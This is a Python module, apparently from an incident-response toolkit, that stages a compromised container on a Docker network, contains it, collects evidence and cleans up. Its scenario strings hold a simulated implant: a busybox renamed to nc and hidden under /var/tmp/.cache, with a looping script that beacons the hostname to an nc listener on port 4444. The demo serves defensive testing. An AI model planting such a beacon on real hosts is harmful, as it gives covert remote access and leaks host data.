"""`irkit demo`: a compromised "web" container, contained and collected end to end.

The scenario is built on any host with a Docker engine and no registry: an
image from the host's static busybox (or a local `alpine`), a demo network, an
"attacker" listening on it and a "web" victim whose dropped implant (a renamed
busybox under /var/tmp/.cache) keeps a connection to the attacker open. The
shipped `contain-and-collect` playbook runs against the victim with the
attacker's address as input; the bundle is verified with the run's own key;
then containment is released and everything the demo made is removed (unless
kept). Everything carries the label irkit.demo=1 and a per-run label.
"""

from __future__ import annotations

import contextlib
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker

from irkit import config, contain
from irkit.bundle.sshsig import generate_key, load_signer, load_trusted_keys
from irkit.bundle.verify import TrustPolicy, VerifyReport, verify_bundle
from irkit.capture.image import build_capture_image
from irkit.engine.docker import engine_errors
from irkit.engine.host import Host
from irkit.engine.images import ensure_busybox_image, has_image
from irkit.errors import EnvironmentProblem, IrkitError
from irkit.playbook import Runner, load, resolve
from irkit.playbook.builtin import default_registry
from irkit.playbook.evidence import BundleSettings, writer_opener
from irkit.playbook.planning import RunResult

DEMO_LABEL = "irkit.demo"
RUN_LABEL = "irkit.demo.run"
DEMO_IMAGE = "irkit-demo/busybox:1"
ALPINE = "alpine:latest"
PORT = 4444
IMPLANT_DIR = "/var/tmp/.cache"
BEACON_WAIT = 15.0
PLAYBOOK = "contain-and-collect"

# The attacker holds the channel open (its stdin never ends), so the implant
# beacons every second on one connection: the pcap shows it, then its drops.
_ATTACKER = f"sleep 2147483647 | nc -l -p {PORT}"
_WEB = f"""mkdir -p {IMPLANT_DIR}
cp /bin/busybox {IMPLANT_DIR}/nc
cat > {IMPLANT_DIR}/update.sh <<'EOF'
while true; do
  while true; do echo "beacon $(hostname) $(date +%s)"; sleep 0.25; done |
    {IMPLANT_DIR}/nc "$1" {PORT}
  sleep 1
done
EOF
sh {IMPLANT_DIR}/update.sh "$ATTACKER" &
echo "web: serving on :8080"
if command -v httpd >/dev/null; then exec httpd -f -p 8080; fi
exec sleep 2147483647
"""


@dataclass(frozen=True)
class Scenario:
    run: str
    image: str
    network: str
    web: str
    attacker: str
    attacker_ip: str

    @property
    def case(self) -> str:
        return f"demo-{self.run}"

    @property
    def label(self) -> str:
        return f"{RUN_LABEL}={self.run}"


@dataclass(frozen=True)
class DemoResult:
    scenario: Scenario
    runner: Runner
    run: RunResult
    verify: VerifyReport | None
    public_key: Path
    kept: bool
    leftovers: tuple[str, ...]
    """Rules or containers that could not be removed (empty when clean)."""


def _image(host: Host) -> str:
    if has_image(host.docker, ALPINE):
        return ALPINE
    return ensure_busybox_image(host.docker, host.commands, DEMO_IMAGE, labels={DEMO_LABEL: "1"})


def build_scenario(host: Host, run: str) -> Scenario:
    """Network, attacker, then the victim beaconing to it; waits for the first beacon."""
    client = host.docker
    labels = {DEMO_LABEL: "1", RUN_LABEL: run}
    image = _image(host)
    names = {role: f"irkit-demo-{role}-{run}" for role in ("net", "web", "attacker")}
    with engine_errors("building the demo scenario"):
        client.networks.create(names["net"], driver="bridge", labels=labels)
        attacker = client.containers.run(
            image, ["sh", "-c", _ATTACKER], name=names["attacker"], network=names["net"],
            labels=labels, detach=True,
        )  # fmt: skip
        attacker.reload()
        address = attacker.attrs["NetworkSettings"]["Networks"][names["net"]]["IPAddress"]
        client.containers.run(
            image, ["sh", "-c", _WEB], name=names["web"], network=names["net"], labels=labels,
            environment={"ATTACKER": address}, detach=True,
        )  # fmt: skip
    scenario = Scenario(run, image, names["net"], names["web"], names["attacker"], address)
    _await_beacon(client, scenario)
    return scenario


def _await_beacon(client: docker.DockerClient, scenario: Scenario) -> None:
    deadline = time.monotonic() + BEACON_WAIT
    while time.monotonic() < deadline:
        with engine_errors("reading the attacker's log"):
            if b"beacon" in client.containers.get(scenario.attacker).logs():
                return
        time.sleep(0.2)
    raise EnvironmentProblem("the demo victim never reached its attacker (no beacon seen)")


def make_runner(
    host: Host, scenario: Scenario, out_dir: Path, emit: Callable[[dict[str, Any]], None]
) -> tuple[Runner, Path]:
    """contain-and-collect against the victim, signed with a key made for this demo."""
    key = generate_key(out_dir / f"key-{scenario.run}", comment=f"irkit demo {scenario.run}")
    playbook = load(PLAYBOOK)
    inputs = resolve(
        playbook.inputs,
        {"target": scenario.web, "case": scenario.case, "attacker": scenario.attacker_ip},
    )
    settings = BundleSettings(
        out_dir, signer=load_signer(key.private_path), verify_args=f"--pubkey {key.public_path}"
    )
    runner = Runner(
        playbook,
        inputs,
        default_registry(host),
        clock=host.clock,
        emit=emit,
        open_bundle=writer_opener(host, settings),
        verify_args=settings.verify_args,
    )
    return runner, key.public_path


def verify(result: RunResult, public_key: Path) -> VerifyReport | None:
    if result.bundle is None:
        return None
    policy = TrustPolicy(trusted_keys=load_trusted_keys(public_key))
    return verify_bundle(result.bundle.path, policy=policy)


def teardown(host: Host, run: str, scenario: Scenario | None) -> tuple[str, ...]:
    """Release the containment, remove the demo's containers and network; say what stayed."""
    label = f"{RUN_LABEL}={run}"
    if scenario is not None:
        for undo in (
            lambda: contain.release(host, [scenario.web]),
            lambda: contain.unblock_ip(host, scenario.attacker_ip, case=scenario.case),
        ):
            with contextlib.suppress(IrkitError):  # nothing to undo when the run stopped early
                undo()
    client = host.docker
    with engine_errors("removing the demo scenario"):
        for container in client.containers.list(
            all=True, filters={"label": label}, ignore_removed=True
        ):
            container.remove(force=True, v=True)
        for network in client.networks.list(filters={"label": label}):
            network.remove()
    dump = host.commands.run(["iptables-save"], check=False).stdout.decode()
    leftovers = [line for line in dump.splitlines() if f"irkit:demo-{run}:" in line]
    remaining = client.containers.list(all=True, filters={"label": label}, ignore_removed=True)
    return tuple(leftovers + [f"container {c.name}" for c in remaining])


def _ensure_capture_image(host: Host, say: Callable[[str], None]) -> None:
    """The demo never reaches for a registry: without a local capture image it
    builds irkit/capture:local from the host's tcpdump (kept, as a site would)."""
    if any(
        has_image(host.docker, name)
        for name in (config.capture_image(), config.LOCAL_CAPTURE_IMAGE)
    ):
        return
    if host.commands.which("tcpdump") is None:
        return  # the capture falls back to the host method, or fails as a recorded step
    say(f"building the capture image {config.LOCAL_CAPTURE_IMAGE} from the host's tcpdump")
    build_capture_image(host.docker, host.commands)


def run_demo(
    host: Host,
    out_dir: Path,
    *,
    keep: bool = False,
    emit: Callable[[dict[str, Any]], None] = lambda event: None,
    say: Callable[[str], None] = lambda text: None,
) -> DemoResult:
    """Build, respond, verify, clean up (always, unless `keep`)."""
    out_dir.mkdir(parents=True, exist_ok=True)
    run = uuid.uuid4().hex[:8]
    scenario: Scenario | None = None
    try:
        say("building the scenario: a web victim beaconing to an attacker")
        _ensure_capture_image(host, say)
        scenario = build_scenario(host, run)
        say(f"victim {scenario.web}, attacker {scenario.attacker} at {scenario.attacker_ip}")
        runner, public_key = make_runner(host, scenario, out_dir, emit)
        result = runner.run()
        report = verify(result, public_key)
    finally:
        if not keep:
            say("removing the scenario and releasing its containment")
            leftovers = teardown(host, run, scenario)
    return DemoResult(scenario, runner, result, report, public_key, keep, () if keep else leftovers)
